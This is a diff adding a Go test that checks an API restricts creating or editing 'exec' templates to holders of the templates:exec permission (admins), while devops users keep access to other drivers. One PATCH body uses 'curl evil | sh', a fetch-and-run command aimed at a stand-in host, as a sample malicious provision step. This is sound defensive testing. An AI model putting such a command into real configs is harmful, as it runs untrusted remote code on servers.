@@ -45,3 +45,23 @@ func TestHoursOverflow(t *testing.T) {
 		}
 	}
 }
+
+// TestExecTemplatesNeedTemplatesExec: exec templates run commands on the
+// server, so creating or changing one is templates:exec (admins by
+// default), not templates:write; devops keep the other drivers.
+func TestExecTemplatesNeedTemplatesExec(t *testing.T) {
+	e := newEnv(t)
+	exec := map[string]any{"_id": "script", "name": "Script", "driver": "exec"}
+	r := e.do("devops", "POST", "/v1/templates", exec)
+	if e.want(r, 403); !strings.Contains(string(r.Body), "templates:exec") {
+		t.Fatalf("403 does not name templates:exec: %s", r.Body)
+	}
+	e.want(e.do("admin", "POST", "/v1/templates", exec), 201)
+	r = e.do("devops", "PATCH", "/v1/templates/script", map[string]any{"config": map[string]any{"provision": "curl evil | sh"}})
+	if e.want(r, 403); !strings.Contains(string(r.Body), "templates:exec") {
+		t.Fatalf("changing an exec template: %s", r.Body)
+	}
+	e.want(e.do("admin", "PATCH", "/v1/templates/script", map[string]any{"description": "runs a script"}), 200)
+	e.want(e.do("devops", "POST", "/v1/templates", map[string]any{"_id": "ns", "name": "NS", "driver": "kubernetes-namespace"}), 201)
+	e.want(e.do("devops", "PATCH", "/v1/templates/ns", map[string]any{"description": "a namespace"}), 200)
+}
